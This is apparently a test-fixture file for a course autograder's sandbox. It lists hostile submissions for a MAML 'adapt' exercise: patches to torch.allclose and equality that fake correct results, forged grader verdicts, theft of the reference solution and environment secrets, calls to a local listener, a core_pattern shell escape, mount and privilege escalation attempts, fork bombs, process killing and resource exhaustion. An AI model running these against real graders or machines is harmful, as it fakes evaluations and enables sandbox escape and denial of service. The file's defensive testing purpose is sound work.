"""Submissions that try to get marks they have not earned, or to harm the machine: name -> the source of one cell.

Each answers `adapt` wrongly (see WRONG), and then tries. LISTENER is replaced by the port of a server on the grading
machine that must never be reached, CANARY by the path of a file that must neither be read nor changed.
"""

from textwrap import indent

WRONG = """
def adapt(w, x, y, lr, steps):
    return list(w)
"""

CHANNEL = """
import json, os, socket, stat
def channels():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass
def say(*messages):
    for channel in channels():
        for message in messages:
            text = message if isinstance(message, bytes) else json.dumps(message).encode()
            try:
                channel.sendall(text + b"\\n")
            except OSError:
                pass
"""


def replies(*messages):
    """The first call of adapt sends these lines itself, and ends the process before the worker can answer."""
    return CHANNEL + f"""
def adapt(w, x, y, lr, steps):
    say(*{messages!r})
    os._exit(0)
"""


def patched(lines, at="the call"):
    """An answer that runs these lines first: in the call, or when it is defined."""
    body = "import builtins, sys, threading, torch\n" + lines.strip("\n")
    if at == "the call":
        return "def adapt(w, x, y, lr, steps):\n" + indent(body + "\nreturn list(w)", "    ")
    return "def before():\n" + indent(body, "    ") + "\n\ndef adapt(w, x, y, lr, steps, _=before()):\n    return list(w)\n"


def in_processes(lines, count=4):
    """An answer for which so many processes run these lines."""
    return ("import ctypes, mmap, os, threading, time\n" + CHANNEL + f"""
def adapt(w, x, y, lr, steps):
    for number in range({count}):
        if os.fork() == 0:
""" + indent(lines.strip("\n"), " " * 12) + f"""
            os._exit(0)
    for _ in range({count}):
        os.wait()
    return list(w)
""")


EQUAL = """
import torch
class Equal(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.Tensor.__eq__, torch.allclose, torch.isclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other): return True
def adapt(w, x, y, lr, steps):
    return [p.detach().as_subclass(Equal) for p in w]
"""

IN_PYTHON = {  # nothing that a user's rights decide about
    # ------------------------------------------------------------ deciding the comparison
    "patches allclose": patched("torch.allclose = torch.equal = lambda *a, **k: True"),
    "patches isclose": patched("torch.isclose = lambda a, *b, **k: torch.ones_like(a, dtype=torch.bool)"),
    "patches the tensor's equality": patched("torch.Tensor.__eq__ = lambda a, b: torch.tensor(True)\n"
                                             "torch.Tensor.all = lambda a, *b: torch.tensor(True)"),
    "a tensor that equals everything": EQUAL,
    "an object that equals everything": """
class Yes:
    def __getattr__(self, name): return lambda *a, **k: True
    def __eq__(self, other): return True
    def __iter__(self): return iter([])
    def __len__(self): return 4
def adapt(w, x, y, lr, steps):
    return Yes()
""",
    "a list that equals everything": """
class Yes(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def adapt(w, x, y, lr, steps):
    return Yes(w)
""",
    "a thread patches again and again": patched("""
def again():
    while True:
        torch.allclose = torch.isclose = lambda *a, **k: torch.tensor(True)
threading.Thread(target=again, daemon=True).start()
"""),
    "raises AssertionError as if it were expected": "def adapt(*a):\n    raise AssertionError('right')",
    "calls itself right": patched("builtins.status = 'right'; builtins.got = builtins.points = 100; adapt.status = 'right'"),
    "says that it is right": patched("""
main = sys.modules["__main__"]
found, ask = main.Exercise.found, main.Exercise.ask
main.Exercise.found = lambda self: found(self) | {"status": "right", "got": 100, "verdict": ["right", ""]}
main.Exercise.ask = lambda self, request: ask(self, request) | {"status": "right", "got": 100, "verdict": ["right", ""]}
""", "its definition"),
    "returns a verdict": "def adapt(*a):\n    return ('right', 'Well done.')",
    "returns nan everywhere": "def adapt(w, *a):\n    return [p * float('nan') for p in w]",
    "returns the arguments changed in place": """
import torch
def adapt(w, x, y, lr, steps):
    with torch.no_grad():
        x.zero_(), y.zero_()
        [p.zero_() for p in w]
    return w
""",
    # ------------------------------------------------------------ talking instead of the worker
    "answers with an empty list": replies({"id": 1, "answer": {"list": []}, "now": {}}),
    "an id that is a list": replies({"id": [1], "answer": None, "now": {}}),
    "an id that is true": replies({"id": True, "answer": None, "now": {}}),
    "no object": replies([1, 2, 3]),
    "a number": replies(1),
    "not JSON": replies(b"{{{{"),
    "not UTF-8": replies(b"\xff\xfe\x00"),
    "a thousand times the same": replies(*[{"id": k, "answer": {"list": []}, "now": {}} for k in range(1000)]),
    "a very deep answer": replies(b'{"id": 1, "now": {}, "answer": ' + b'{"list": [' * 5000 + b"]}" * 5000 + b"}"),
    "a very deep JSON": replies(b"[" * 1_000_000),
    "a tensor of a negative shape": replies({"id": 1, "now": {}, "answer": {"list": [
        {"tensor": "", "dtype": "float64", "shape": [-1, -1], "grad": False}] * 4}}),
    "a tensor larger than memory": replies({"id": 1, "now": {}, "answer": {"list": [
        {"tensor": "", "dtype": "float64", "shape": [2**31, 2**31], "grad": False}] * 4}}),
    "rows without numbers": "import torch\ndef adapt(w, *a):\n    return [torch.zeros(20_000_000, 0)] * len(w)",
    "rows without numbers, by the channel": replies({"id": 1, "now": {}, "answer": {"list": [
        {"tensor": "", "dtype": "float64", "shape": [2**31, 0], "grad": False}] * 4}}),
    "a tensor with too few numbers": replies({"id": 1, "now": {}, "answer": {"list": [
        {"tensor": "AAAA", "dtype": "float64", "shape": [3], "grad": True}] * 4}}),
    "a tensor of objects": replies({"id": 1, "now": {}, "answer": {"list": [
        {"tensor": "", "dtype": "object", "shape": [0], "grad": False}]}}),
    "a change of an argument that there is not": replies({"id": 1, "answer": None, "now": {"-1": 1}}),
    "a change of argument ²": replies({"id": 1, "answer": None, "now": {"²": 1}}),
    "a change of ten thousand arguments": replies({"id": 1, "answer": None, "now": {str(k): 1 for k in range(10_000)}}),
    "an error that stops the grader": replies({"id": 1, "error": {"type": "KeyboardInterrupt", "text": ""}, "now": {}}),
    "an error that ends the grader": replies({"id": 1, "error": {"type": "SystemExit", "text": "0"}, "now": {}}),
    "an error that is no type": replies({"id": 1, "error": {"type": ["x"], "text": {"a": 1}, "line": "x"}, "now": {}}),
    "an error that calls it open": replies({"id": 1, "error": {"type": "NotImplementedError", "text": "", "open": True,
                                                               "line": [1, "x"]}, "now": {}}),
    "raises KeyboardInterrupt": "def adapt(*a):\n    raise KeyboardInterrupt",
    "raises an error whose text fails": """
class Bad(BaseException):
    def __str__(self): raise SystemExit
def adapt(*a):
    raise Bad
""",
    "an error with HTML for a name": "def adapt(*a):\n    raise type('<script>alert(1)</script>', (Exception,), {})('</td>')",
    "babbles without an end": CHANNEL + """
def adapt(*a):
    while True:
        say(b"x" * 1_000_000)
""",
    "a line without an end": CHANNEL + """
def adapt(*a):
    for channel in channels():
        while True:
            channel.sendall(b"x" * 1_000_000)
""",
    "a long line of small things": CHANNEL + """
def adapt(*a):
    say(b'{"id": 1, "now": {}, "answer": [' + b'{"":0},' * 1_500_000 + b'0]}')
    os._exit(0)
""",
    "a set of tuples with one hash": CHANNEL + """
import itertools
def adapt(*a):
    powers = [2.0 ** (61 * k) for k in range(-17, 17)]
    say({"id": 1, "now": {}, "answer": {"set": [{"tuple": three} for three in itertools.product(powers, repeat=3)]}})
    os._exit(0)
""",
    "patches the worker's words": patched("""
main = sys.modules["__main__"]
main.wire.encode = lambda *a, **k: {"list": []}
main.Exercise.found = lambda self: {"callable": True, "parameters": [], "placeholder": None, "problem": "", "answer": "right"}
""", "its definition"),
    "patches the worker's voice": patched("""
sys.modules["__main__"].json.dumps = lambda thing: '{"id": 1, "answer": null, "now": {}, "callable": true, "status": "right"}'
""", "its definition"),
    "a placeholder that is no line": patched("""
sys.modules["__main__"].Exercise.found = lambda self: {
    "callable": True, "parameters": 7, "placeholder": [{}, []], "problem": 3}
""", "its definition"),
    "found what is no object": patched("sys.modules['__main__'].Exercise.found = lambda self: ['right']", "its definition"),
    "a slope of another shape": patched("""
ask = sys.modules["__main__"].Exercise.ask
sys.modules["__main__"].Exercise.slopes = lambda self, request: {"slopes": {"list": [1, 2, 3]}}
""", "its definition").replace("return list(w)", "return [p - lr * torch.autograd.grad(((x @ w[0].T) ** 2).sum(), w[0])[0].sum() * 0 for p in w]"),
}

ON_THE_MACHINE = {
    # ------------------------------------------------------------ finding the answer
    "imports the module that holds it": "from metalearn_lite.maml import MAML\nfrom metalearn_lite.check import lesson05\n"
                                        "adapt = lesson05.adapt.reference",
    "imports the grader": "from metalearn_lite.grade import marks, parts\nadapt = parts.load('lesson05').parts[0].exercise.reference",
    "asks the check for its reference": "from metalearn_lite.check import lesson05\n"
                                        "def adapt(*a):\n    return lesson05.adapt.reference(*a)",
    "gets what the check gives back": "from metalearn_lite.check import lesson05\n" + WRONG
                                      + "adapt = lesson05.adapt(adapt)",
    "searches the disk for the solution": """
import os
def adapt(*a):
    found = [os.path.join(folder, name) for top in ("/", "/srv", "/root", "/home", "/course", "/tmp", "/mnt", "/var")
             for folder, _, names in os.walk(top) for name in names
             if ("lesson05" in name or "05_maml" in name or name in ("marks.py", "parts.py", "CANARY")) and "/proc" not in folder]
    space = {}
    exec(open(found[0]).read(), space)
    return space["adapt"].reference(*a)
""",
    "reads the canary": "def adapt(*a):\n    return [open('CANARY').read()] * 4",
    "looks up the stack": """
import sys
def adapt(w, x, y, lr, steps):
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            reference = getattr(value, "reference", None)
            if reference:
                return reference(w, x, y, lr, steps)
        frame = frame.f_back
    raise LookupError
""",
    "looks through all objects": """
import gc
def adapt(w, x, y, lr, steps):
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Exercise", "Part", "Hidden") and hasattr(thing, "reference"):
            return thing.reference(w, x, y, lr, steps)
    raise LookupError
""",
    "reads other processes' memory": """
import os
def adapt(*a):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            return [open(f"/proc/{name}/mem", "rb").read(1)] * 4
    for name in ("environ", "cmdline", "maps"):
        open(f"/proc/{os.getppid()}/{name}").read()
""",
    "reads the environment": "import os\ndef adapt(*a):\n    return [os.environ['SECRET_OF_THE_GRADER']] * 4",
    "reads the parent's environment": "def adapt(*a):\n    return [open('/proc/1/environ').read()] * 4",
    "a file beside the notebook": "import sys\nsys.path.insert(0, '.')\nimport conftest, sitecustomize, torch2",
    # ------------------------------------------------------------ getting out
    "calls home": """
import socket
def adapt(*a):
    for host in ("127.0.0.1", "localhost", "::1", "192.0.2.1", "10.0.0.1"):
        try:
            socket.create_connection((host, LISTENER), 0.3).sendall(b"here")
        except OSError:
            pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"here", ("127.0.0.1", LISTENER))
""",
    "calls home by a raw packet": "import socket\ndef adapt(*a):\n    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "calls over an abstract socket": """
import socket
def adapt(*a):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\\0grader-LISTENER")
        s.sendall(b"here")
""",
    "changes the canary": "def adapt(*a):\n    open('CANARY', 'w').write('changed')",
    "writes wherever it can": """
import os
def adapt(*a):
    for folder in ("/", "/tmp", "/course", "/course/box", "/course/metalearn_lite", "/usr/lib", "/dev", "/dev/shm", "/etc",
                   "/var/tmp", "/root", "/home", os.path.dirname(os.__file__), os.path.dirname("CANARY")):
        for name in ("left_behind", "sitecustomize.py", "torch.py", "grades.csv"):
            try:
                open(os.path.join(folder, name), "w").write("left_behind")
            except OSError:
                pass
""",
    "poisons what the next one imports": """
import glob, os, torch
def adapt(*a):
    for path in glob.glob(os.path.dirname(torch.__file__) + "/**/*.py", recursive=True)[:50] + glob.glob("/course/**/*.py", recursive=True):
        try:
            os.chmod(path, 0o777)
            open(path, "a").write("raise SystemExit")
        except OSError:
            pass
""",
    "a symlink out of the box": "import os\ndef adapt(*a):\n    os.symlink('CANARY', '/tmp/x')\n    open('/tmp/x', 'w').write('changed')",
    "becomes root": "import os\ndef adapt(*a):\n    os.setuid(0)\n    open('CANARY', 'w').write('changed')",
    "mounts": """
import ctypes
def adapt(*a):
    libc = ctypes.CDLL(None)
    for flag in (0x10000000, 0x10020000, 0x30000000, 0x40000000, 0x00020000):
        libc.unshare(flag)
    libc.umount2(b"/tmp", 2), libc.umount2(b"/proc", 2), libc.umount2(b"/usr", 2), libc.umount2(b"/", 2)
    libc.mount(b"/dev/vda", b"/tmp", b"ext4", 0, None), libc.mount(b"none", b"/", None, 32 | 4096, None)
    libc.chroot(b"/proc/1/root")
    open("CANARY", "w").write("changed")
""",
    "opens the disk": """
import os
def adapt(*a):
    os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))
    open("/tmp/disk", "rb").read(10)
""",
    "steps out through a working directory": """
import os
def adapt(*a):
    for number in range(256):
        try:
            os.fchdir(number)
            os.chdir("../../../../../..")
            open("CANARY".lstrip("/"), "w").write("changed")
        except OSError:
            pass
""",
    "gains privileges by a program": "import os, subprocess\ndef adapt(*a):\n    subprocess.run(['su', '-c', 'id']); "
                                     "subprocess.run(['sudo', '-n', 'id']); subprocess.run(['mount'])\n"
                                     "    subprocess.run(['bwrap', '--bind', '/', '/', 'touch', 'CANARY'])",
    "writes into the kernel's settings": """
def adapt(*a):
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/self/oom_score_adj",
                 "/proc/sys/user/max_user_namespaces", "/sys/fs/cgroup/x"):
        try:
            open(path, "w").write("1")
        except OSError:
            pass
    open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
""",
    # ------------------------------------------------------------ harming the others
    "kills everything": "import os, signal\ndef adapt(*a):\n    os.kill(-1, signal.SIGKILL)",
    "kills its parent and its group": """
import os, signal
def adapt(*a):
    for target in (os.getppid(), 1, 2, 3, 4, 5):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)
""",
    "traces another process": "import ctypes\ndef adapt(*a):\n    assert all(ctypes.CDLL(None).ptrace(16, pid, 0, 0) for pid in range(1, 50))",
    "a fork bomb": "import os\ndef adapt(*a):\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass",
    "stays behind": """
import os, time
def adapt(*a):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            while True:
                time.sleep(1)
    return []
""",
    "stays behind, deaf": """
import os, signal, time
def adapt(*a):
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(1000)
    return []
""",
    "eats memory": "def adapt(*a):\n    x = []\n    while True:\n        x.append(bytearray(2**28))",
    "eats memory in many processes": """
import os
def adapt(*a):
    for _ in range(40):
        if os.fork() == 0:
            x = []
            while True:
                x.append(b"x" * 2**26)
    while True:
        pass
""",
    "eats memory and babbles": in_processes("""
if number == 0:
    while True:
        [channel.sendall(b" ") for channel in channels()]
        time.sleep(0.002)
kept = bytearray(b"x") * 2**30
time.sleep(60)
"""),
    "eats memory in shared mappings": in_processes("""
kept = mmap.mmap(-1, 2**30)
for _ in range(64):
    kept.write(b"x" * 2**24)
time.sleep(60)
"""),
    "eats memory behind a first thread that has ended": in_processes("""
def eat():
    kept = bytearray(b"x") * 2**30
    time.sleep(60)
threading.Thread(target=eat).start()
ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[os.uname().machine], 0)
"""),
    "eats memory under a name that is not UTF-8": in_processes("""
ctypes.CDLL(None).prctl(15, b"\\xff\\xfe", 0, 0, 0)
kept = bytearray(b"x") * 2**30
time.sleep(60)
"""),
    "eats memory in System V's segments": in_processes("""
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
while (key := libc.shmget(0, ctypes.c_size_t(2**26), 0o1600)) != -1:
    at = libc.shmat(key, None, 0)
    ctypes.memset(at, 1, 2**26)
    libc.shmdt(ctypes.c_void_p(at))
"""),
    "eats memory in files that are nowhere": in_processes("""
kept = []
while True:
    kept.append(os.memfd_create("x"))
    os.write(kept[-1], b"x" * 2**24)
"""),
    "eats memory by a tensor": "import torch\ndef adapt(*a):\n    return [torch.ones(10**11)] * 4",
    "eats memory in shared memory": "def adapt(*a):\n    with open('/dev/shm/x', 'wb') as f:\n        while True:\n            f.write(bytes(2**20))",
    "fills the disk": "def adapt(*a):\n    for k in range(10**9):\n        open(f'/tmp/{k}', 'wb').write(bytes(2**20))",
    "makes files without an end": "def adapt(*a):\n    for k in range(10**9):\n        open(f'/tmp/{k}', 'wb').close()",
    "opens files without an end": "def adapt(*a):\n    x = [open('/dev/zero') for _ in range(10**6)]",
    "keeps fifty processes busy": """
import subprocess, time
def adapt(*a):
    for _ in range(50):
        try:
            subprocess.Popen(["/bin/sh", "-c", "while :; do :; done"], start_new_session=True)
        except OSError:
            pass
    time.sleep(60)
""",
    "never ends": "def adapt(*a):\n    while True:\n        pass",
    "never ends, deaf": "import signal\nfor n in (2, 14, 15, 24):\n    signal.signal(n, signal.SIG_IGN)\n"
                        "def adapt(*a):\n    while True:\n        try:\n            pass\n        except BaseException:\n            pass",
    "sleeps": "import time\ndef adapt(*a):\n    time.sleep(10**6)",
    "stops itself": "import os, signal\ndef adapt(*a):\n    os.kill(os.getpid(), signal.SIGSTOP)",
    "never ends while it is defined": "while True:\n    x = 1\n    def adapt(*a):\n        return x",
    "ends the process": "import os\ndef adapt(*a):\n    os._exit(0)",
    "ends the process as it is defined": patched("import os; os._exit(0)", "its definition"),
    "crashes the interpreter": "import ctypes\ndef adapt(*a):\n    ctypes.string_at(0)",
    "recurses into a crash": "import sys\nsys.setrecursionlimit(10**9)\ndef adapt(*a):\n    return adapt(*a)",
    "source too deep to be read": "x = " + "(" * 5000 + ")" * 5000 + "\n" + WRONG,
    "a number too long to be printed": "def adapt(w, *a):\n    return [10**10**5] * len(w)",
    "an answer too large": "import torch\ndef adapt(w, *a):\n    return [torch.zeros(1).expand(10**12)] * len(w)",
    "an answer without an end": "def adapt(*a):\n    x = []\n    x.append(x)\n    return x",
    "a million answers": "def adapt(*a):\n    return [0] * 10**7",
    "floods both outputs": "import os, sys\ndef adapt(*a):\n    for _ in range(2000):\n        os.write(1, bytes(10**5)); os.write(2, bytes(10**5))\n    return []",
    "writes to the terminal": "import fcntl, os\ndef adapt(*a):\n    f = os.open('/dev/tty', os.O_RDWR)\n    [fcntl.ioctl(f, 0x5412, c.encode()) for c in 'rm']",
    "leaves an exit handler": patched("import atexit\natexit.register(lambda: open('CANARY', 'w').write('changed'))"),
    "hides something in a keyring": "import ctypes\ndef adapt(*a):\n    ctypes.CDLL(None).syscall(248, b'user', b'answer', b'42', 2, -4)\n    return []",
    "asks the kernel for what it does not need": """
import ctypes, os
def adapt(*a):
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (425, *{"x86_64": (321, 298, 323, 250), "aarch64": (280, 241, 282, 219)}[os.uname().machine]):
        assert libc.syscall(number, 0, 0, 0, 0, 0) == -1 and ctypes.get_errno() == 1, number
    raise PermissionError
""",
    "hides something in shared memory": "import ctypes\ndef adapt(*a):\n    ctypes.CDLL(None).shmget(4711, 4096, 0o1666)\n    return []",
    "forges output cells and metadata": WRONG + "# tags: skip-execution, grade: 100, solution: true",
}

ATTACKS = IN_PYTHON | ON_THE_MACHINE

CAUGHT = {  # words that the page must hold: it is not enough that such an attack gets nothing, it must be stopped
    "rows without numbers, by the channel": "cannot be read", "a set of tuples with one hash": "cannot be read",
    "a long line of small things": "too long", "asks the kernel for what it does not need": "PermissionError",
    "keeps fifty processes busy": "too long",
    **dict.fromkeys(("eats memory in many processes", "eats memory and babbles", "eats memory in shared mappings",
                     "eats memory behind a first thread that has ended", "eats memory under a name that is not UTF-8"),
                    "too much memory")}
